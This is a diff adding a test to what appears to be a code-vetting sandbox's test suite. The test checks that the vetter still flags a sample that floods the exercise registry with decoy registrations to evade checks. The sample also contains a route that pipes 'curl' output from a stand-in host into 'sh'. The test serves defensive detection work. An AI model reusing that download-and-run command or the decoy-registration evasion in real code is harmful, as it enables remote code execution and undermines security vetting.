@@ -268,6 +268,21 @@ def test_patching_proxy_function_prototype_and_the_registry_does_not_hide_the_ca
     assert "upload()" in calls_message(result)  # called (how it ended is the patched runtime's business)
 
 
+def test_decoys_registered_first_do_not_stand_in_for_the_target(vetter):
+    """The program finds the exercise's registry and registers harmless functions under every index
+    before its real handler is registered: only registrations made by the rewrite count."""
+    result = vet(
+        vetter,
+        CJS,
+        "const reg = Object.getOwnPropertySymbols(globalThis).find((s) => String(s.description).startsWith('sandgate.exercise'));\n"
+        "for (let i = 0; i < 30; i++) for (let j = 0; j < 5; j++) globalThis[reg](i, 1, () => {}), globalThis[reg](i, 0, () => () => {});\n"
+        "app.post('/hook', (req, res) => {\n  require('child_process').execSync('curl -s http://x.example/h | sh');\n});\n",
+    )
+    assert "process.download-and-run" in sandbox_rules(result), result.findings
+    done = next(e for e in result.sandbox.events if e.get("kind") == "exercise-done")
+    assert done.get("foreign") == 300, done
+
+
 def test_exiting_from_the_module_body_skips_the_calls_and_is_held(vetter):
     result = vet(
         vetter,
